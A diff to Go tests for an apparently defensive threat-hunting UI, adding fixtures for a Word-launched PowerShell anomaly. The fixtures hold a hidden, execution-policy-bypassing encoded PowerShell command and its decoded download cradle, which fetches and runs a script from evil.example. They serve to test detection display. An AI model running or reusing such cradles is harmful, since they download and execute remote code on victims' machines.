@@ -331,7 +331,8 @@ func TestPagesRender(t *testing.T) {
 	c := f.client()
 	c.login(adminToken)
 	want := map[string][]string{
-		"/ui/":                        {"windows", "linux", "Recent live queries", "process_lineage", "By technique", "T1059.001", "execution"},
+		"/ui/": {"windows", "linux", "Recent live queries", "process_lineage", "By technique", "T1059.001", "execution",
+			"Highest ranked", `<a href="/ui/anomalies/7"><code class="break">winword.exe → powershell.exe</code></a>`},
 		"/ui/hosts":                   {"win-1", "lnx-1", "online", "offline", "/ui/hosts/1/tree"},
 		"/ui/console":                 {`id="sql"`, "win-1 (windows)", "lnx-1 (linux, offline)", `data-schema="/ui/static/schema.json"`},
 		"/ui/hosts/1/tree":            {"Run process_lineage now"},
@@ -339,8 +340,10 @@ func TestPagesRender(t *testing.T) {
 		"/ui/hosts/1/scripts?query=2": {"0d1c-block", "download_cradle"},
 		"/ui/hosts/1/scripts/view?query=2&block=0d1c-block": {"Script text as logged (2 of 2 parts", "Decoded", "invoke_expression",
 			"DownloadString(&#39;https://x.example/p.ps1&#39;)"},
-		"/ui/anomalies":       {"winword.exe", "rare: 1 of 40 hosts", "T1059.001"},
-		"/ui/anomalies/7":     {"Evidence rows", "invoice.docm", "Suppress because", "2.5%"},
+		"/ui/anomalies": {"winword.exe → powershell.exe", "rare: 1 of 40 hosts", "T1059.001", "rarity/rare_parent_child"},
+		// The command line whole, and the text the agent decoded from it.
+		"/ui/anomalies/7": {"Evidence rows", "invoice.docm", "Suppress because", "2.5%", `<pre class="cmdline">` + longEncodedCmdline + "</pre>",
+			"Decoded command", "DownloadString(&#39;http://evil.example/stage2.ps1&#39;)", "<code>rarity/rare_parent_child</code>"},
 		"/ui/hunts":           {"every 2 hours, UTC", "Run now", "execution"},
 		"/ui/hunts/execution": {"Run history", "every 2 hours, UTC", "3 / 0 / 1 of 4"},
 	}
@@ -632,6 +635,10 @@ func TestSchemaIndex(t *testing.T) {
 
 // --- fakes of the services behind the operator API's hunt and anomaly routes ---
 
+// longEncodedCmdline is longer than any cell the UI would once cut.
+const longEncodedCmdline = "powershell.exe -NoProfile -WindowStyle Hidden -ExecutionPolicy Bypass -EncodedCommand " +
+	"SQBFAFgAIAAoAE4AZQB3AC0ATwBiAGoAZQBjAHQAIABOAGUAdAAuAFcAZQBiAEMAbABpAGUAbgB0ACkALgBEAG8AdwBuAGwAbwBhAGQAUwB0AHIAaQBuAGcAKAA="
+
 type fakeAnomalies struct {
 	mu sync.Mutex
 	m  map[string]apiv1.Anomaly
@@ -640,12 +647,13 @@ type fakeAnomalies struct {
 func newFakeAnomalies() *fakeAnomalies {
 	t0 := time.Date(2026, 11, 1, 8, 0, 0, 0, time.UTC)
 	mk := func(id string, hunt, tech, sev, parent, name string, hosts, answered int) apiv1.Anomaly {
-		sk := apiv1.Stack{Query: hunt + "_office_children", Key: parent + "|" + name,
+		sk := apiv1.Stack{Query: hunt + "_office_children", Key: parent + "|" + name, Queries: []string{hunt + "_office_children", "rarity/rare_parent_child"},
 			Values: map[string]string{"parent_name": parent, "name": name}, HostCount: hosts, Rows: 3,
 			FirstSeen: t0, LastSeen: t0.Add(time.Hour), MaxScore: 90, Indicators: []string{"office_child_shell"},
 			Examples: []apiv1.Example{{Host: "win-1", Time: t0, Row: map[string]string{"parent_name": parent, "name": name,
-				"cmdline": "WINWORD.EXE /n invoice.docm"}}}}
-		return apiv1.Anomaly{ID: id, Hunts: []string{hunt}, State: apiv1.TriageOpen, Hosts: []string{"win-1"},
+				"cmdline": "WINWORD.EXE /n invoice.docm"}}, {Host: "win-2", Time: t0, Row: map[string]string{"parent_name": parent, "name": name,
+				"score": "90", "cmdline": longEncodedCmdline, "decoded_command": "IEX (New-Object Net.WebClient).DownloadString('http://evil.example/stage2.ps1')"}}}}
+		return apiv1.Anomaly{ID: id, Hunts: []string{hunt}, State: apiv1.TriageOpen, Hosts: []string{"win-1", "win-2"},
 			Stack: sk, Technique: tech, Severity: sev, Prevalence: float64(hosts) / float64(answered),
 			Answered: answered, Rare: true, New: true, HighScore: true, Rank: 0.9,
 			Reasons: []string{fmt.Sprintf("rare: %d of %d hosts", hosts, answered), "new: not in the baseline", "score 90"}}
